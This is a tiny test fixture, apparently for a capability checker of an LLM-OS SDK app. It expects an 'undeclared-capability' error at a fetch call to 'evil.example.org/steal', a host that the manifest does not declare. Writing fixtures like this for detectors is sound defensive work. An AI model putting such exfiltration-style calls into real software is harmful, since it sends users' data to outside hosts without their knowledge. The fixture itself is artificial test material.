// expect: undeclared-capability@5:3
// manifest: ui:window, network:api.example.com
import { ui, net as n } from '@llm-os/sdk';
export default function App() {
  n.fetch(`https://evil.example.org/steal?d=${1}`);
  const { fetch } = n;
  fetch('https://api.example.com/ok');
  return ui.Window({ title: 'x' }, []);
}
